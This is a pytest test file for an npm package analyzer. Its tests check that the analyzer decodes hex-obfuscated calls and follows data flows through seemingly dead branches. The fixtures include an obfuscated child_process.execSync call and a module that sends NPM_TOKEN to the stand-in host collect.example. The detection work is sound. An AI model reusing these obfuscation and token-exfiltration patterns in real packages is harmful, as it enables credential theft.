from __future__ import annotations

import pytest

from npmguard.config import Limits
from npmguard.javascript.facts import extract_facts
from npmguard.model import FactKind

DECODED = "require(plain('6368696c645f70726f63657373'))[plain('6578656353796e63')](plain('6c73'))"
TABLE = """
const table = { differs: function (a, b) { return a !== b }, word: 'KbTrx', call: (f, a) => f(a) };
function spell(codes) { return String.fromCharCode.apply(null, codes) }
"""


def is_worked_out(code: str) -> bool:
    """Whether what ``plain`` returns was worked out."""
    facts = extract_facts("index.js", f"{code}\n{DECODED}".encode(), Limits()).facts
    return "child_process.execSync" in {fact.name for fact in facts if fact.kind is FactKind.CALL}


@pytest.mark.parametrize(
    "body",
    [
        "if (table.differs(table.word, 'KbTrx')) { return unheard[text](document) } return HEX",
        "if (table.differs(spell([65, 66]), 'CD')) { return HEX } else { lost = nowhere(text); return lost }",
        "return table.differs(table.word, 'KbTrx') ? unheard.of(text) : HEX",
        "return table.differs(table.word, 'KbTrx') && unheard(text) || HEX",
        "if (table['differs'](table['word'], 'KbTrx') || false) { if (text) { unheard(text) } } return HEX",
        "const f = () => { if (!table.differs(table.word, 'KbTrx')) return HEX; else no() }; return f()",
    ],
)
def test_a_function_is_worked_out_although_a_branch_that_never_runs_reaches_for_the_unknown(body: str) -> None:
    decoded = "Buffer.from(text, 'hex').toString()"

    assert is_worked_out(f"{TABLE} function plain(text) {{ {body.replace('HEX', decoded)} }}")


@pytest.mark.parametrize(
    ("before", "condition"),
    [
        ("", "text"),
        ("", "typeof window.top"),
        ("let open = true; const gate = () => open; open = false;", "gate()"),
        ("var set = 1;", "set"),
        ("const state = self.state || { on: true };", "state.on"),
        ("const state = [1]; state.pop();", "state[0]"),
        ("const state = { on: true }; state.on = false;", "state.on"),
        ("const state = { on: true }; state['o' + 'n'] = false;", "state.on"),
        ("const state = { on: true }; state.on--;", "state.on"),
        ("const state = { on: true }; state.on &= 0;", "state.on"),
        ("const state = { on: true }; delete state.on;", "state.on"),
        ("const state = { on: true }; [state.on] = [0];", "state.on"),
        ("const state = { on: true }; ({ to: state.on } = { to: 0 });", "state.on"),
        ("const state = { on: true }; for (state.on of [0]);", "state.on"),
        ("const state = { on: true }; const same = state; same.on = false;", "state.on"),
        ("const state = { on: true }; const same = state; same.on--;", "state.on"),
        ("const state = { on: true }; Object.assign(state, { on: false });", "state.on"),
        ("const state = { on: true, off () { this.on = false } }; state.off();", "state.on"),
        ("const state = { on: true }; state.off = function () { this.on = false }; state.off();", "state.on"),
        ("const state = { on: () => true }; [state].forEach(each => { each.on = () => false });", "state.on()"),
    ],
)
def test_a_branch_that_may_run_is_not_left_out(before: str, condition: str) -> None:
    code = f"""{before}
    function plain(text) {{
      if ({condition}) return Buffer.from(text, 'hex').toString();
      else return process.env[text];
    }}
    """

    assert not is_worked_out(code)


GATES = {
    "that counts": "function gate() { gate.calls = (gate.calls || 0) + 1; return gate.calls < 9 }",
    "that other calls open": "function gate(x) { if (x === 7) gate.open = true; return !gate.open } gate(7);",
    "that fills a list": "const list = []; function gate() { list.push(1); return list.length < 9 }",
    "that is always the same": "function gate() { return true }",
}


@pytest.mark.parametrize("gate", GATES.values(), ids=GATES)
@pytest.mark.parametrize(
    "body",
    [
        "if (gate()) return 'ok'; else return process.env[key]",
        "return gate() ? 'ok' : process.env[key]",
        "const made = (function () { if (gate()) return 'ok'; else return process.env[key] })(); return made",
        "const box = { v: 'ok' }; if (!gate()) { box.v = process.env[key] } return box.v",
    ],
)
def test_what_comes_through_a_branch_that_is_taken_for_dead_is_followed(gate: str, body: str) -> None:
    code = f"""{gate}
    function take(key) {{ {body} }}
    module.exports = function () {{
      const found = 'v=' + take('NPM_TOKEN');
      fetch('https://collect.example/?' + found);
    }}
    """

    assert "npm-token>network" in flows(code)


def flows(code: str) -> set[str]:
    facts = extract_facts("index.js", code.encode(), Limits()).facts
    return {fact.name for fact in facts if fact.kind is FactKind.FLOW}
